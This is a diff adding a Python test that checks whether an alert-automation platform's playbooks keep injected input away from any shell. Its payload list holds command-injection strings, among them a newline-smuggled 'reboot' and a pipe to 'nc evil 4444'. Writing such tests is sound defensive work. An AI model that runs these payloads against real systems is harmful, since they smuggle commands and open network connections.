@@ -140,3 +140,70 @@ def _filter() -> object:
     from garrison.alerts.query import AlertFilter
 
     return AlertFilter()
+
+
+PAYLOADS = [
+    "; touch /tmp/garrison-pwned",
+    "$(touch /tmp/garrison-pwned)",
+    "`touch /tmp/garrison-pwned`",
+    "a\nb; reboot",
+    "| nc evil 4444",
+    "--help",
+    "${{ 7*7 }}",
+    "fe80::1%x }; flush ruleset; {",
+]
+
+
+def test_injection_payloads_in_every_event_field_reach_no_shell(
+    platform: Platform, tmp_path: Path
+) -> None:
+    """Every shipped playbook, live, on an alert whose every field is a payload."""
+    runner = RecordingRunner()
+    automation = Automation(platform, runner=runner)
+    for payload in PAYLOADS:
+        event = {
+            "source": {"ip": payload},
+            "user": {"name": payload},
+            "host": {"name": payload},
+            "url": {"path": "/" + payload},
+            "container": {"name": payload, "id": payload},
+            "process": {"pid": payload, "command_line": payload},
+            "file": {"path": payload},
+            "message": payload,
+        }
+        context = {
+            "alert": {
+                "id": 1,
+                "rule_id": payload,
+                "title": payload,
+                "level": "critical",
+                "tags": [payload],
+                "group": {"source.ip": payload},
+                "count": 9,
+                "source_ip": payload,
+                "user": payload,
+                "host": payload,
+                "event_ids": [],
+            },
+            "event": event,
+        }
+        for playbook_id in automation.catalog().playbooks:
+            try:
+                automation.start(playbook_id, actor="test", context=context)
+            except Exception as exc:  # refused input is fine; a crash is not
+                from garrison.core.errors import GarrisonError
+
+                assert isinstance(exc, GarrisonError), exc
+    assert not Path("/tmp/garrison-pwned").exists()
+    runs = automation.runs.list(limit=1000)
+    assert len(runs) >= len(PAYLOADS)  # the playbooks did run and refused the values
+    errors = " ".join(
+        s.error or "" for r in runs for s in automation.runs.steps(r.id) if s.status == "failed"
+    )
+    assert "not an acceptable user name" in errors
+    for argv in runner.calls:
+        assert argv[0] not in ("sh", "bash", "dash", "zsh", "env", "busybox")
+        assert "-c" not in argv[:2]
+        for arg in argv:
+            for payload in PAYLOADS:
+                assert payload not in arg, (argv, payload)
